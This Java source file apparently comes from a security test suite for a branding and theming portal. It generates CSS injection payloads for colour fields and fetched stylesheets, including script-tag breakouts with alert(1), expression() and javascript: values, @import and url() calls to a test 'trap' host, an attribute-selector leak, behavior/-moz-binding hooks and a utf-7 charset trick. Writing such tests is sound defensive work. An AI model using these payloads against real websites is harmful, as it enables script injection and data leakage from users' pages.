package io.chom.portal.hostile;

import io.chom.portal.hostile.Payload.Family;
import io.chom.theming.Brand;
import io.chom.theming.Color;
import io.chom.theming.website.FetchedSite;
import io.chom.theming.website.SitePage;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** Style sheets where a colour is asked for, and style sheets of a website that a brand is made of. */
final class Colors {

    private static final List<String> VALUES = List.of(
            "red;background:url(%s)",
            "#fff}body{display:none}.foot{position:fixed}",
            "url(%s/c)",
            "expression(alert(1))",
            "var(--ui-accent,url(%s/v))",
            "#0a7d5",
            "#0a7d5a;behavior:url(%s/b)",
            "\\75 rl(%s/e)",
            "@import url(%s/i);",
            "rgb(10,125,90)/**/",
            "image-set('%s/s' 1x)",
            "javascript:alert(1)");

    private static final List<UnaryOperator<String>> FORMS = List.of(
            value -> value,
            value -> "#0a7d5a " + value,
            value -> value.toUpperCase(Locale.ROOT),
            value -> value.substring(0, 1) + "\n" + value.substring(1),
            value -> "#0a7d5a;}</style><script>alert(1)</script><style>" + value);

    private static final List<String> SHEETS = List.of(
            "@import url(%s/import.css);",
            "body{background:#fdfdfb url(%s/ground.png)}",
            "@font-face{font-family:x;src:url(%s/x.woff2)}body{font-family:x,\"</style><script>alert(1)</script>\"}",
            ":root{--accent:url(%s/accent);--primary:#0a7d5a}",
            "a[href^=h]{background-image:url(%s/key)}",
            "body{font-family:expression(alert(1)),Inter}",
            ".foot,.draft{position:fixed;top:-9999px;display:none!important}",
            "*{behavior:url(%s/x.htc);-moz-binding:url(%s/x.xml#x);cursor:url(%s/c.cur),auto}");

    private static final List<String> PLACES = List.of(
            "%s .button{background-color:#0a7d5a;color:#fff}",
            "@media screen{%s .btn-primary{background:#0a7d5a}}",
            ".cta{background:rgb(10 125 90)}}} %s",
            "/* %s */ .button{background:#0a7d5a} %s",
            "@charset \"utf-7\";@supports (x:y){%s} .button{background:hsl(162 85% 26%)}");

    private Colors() {}

    static Stream<Payload> all(String trap) {
        return Stream.concat(
                VALUES.stream()
                        .flatMap(value -> FORMS.stream().map(form -> typed(form.apply(value.replace("%s", trap))))),
                SHEETS.stream()
                        .flatMap(sheet ->
                                PLACES.stream().map(place -> found(place.replace("%s", sheet.replace("%s", trap))))));
    }

    private static Payload typed(String text) {
        return new Payload(
                Family.COLORS,
                text,
                Optional.empty(),
                () -> Victim.BRAND.withLook(Victim.BRAND.look().withAccent(Color.of(text))));
    }

    private static Payload found(String sheet) {
        return new Payload(Family.COLORS, sheet, Optional.empty(), () -> proposed(sheet));
    }

    private static Brand proposed(String sheet) {
        var html = "<!doctype html><title>x</title><body><header>x</header><a class=button href=/>x</a>";
        var page = SitePage.read("https://acme.example/", html.getBytes(StandardCharsets.UTF_8), "text/html");
        var choice = new FetchedSite(page, List.of(sheet), List.of()).proposal().choice();
        if (choice.accent().isEmpty()
                && choice.background().isEmpty()
                && choice.font().isEmpty()) {
            throw new IllegalArgumentException("Nothing was found");
        }
        return choice.on(Victim.BRAND);
    }
}
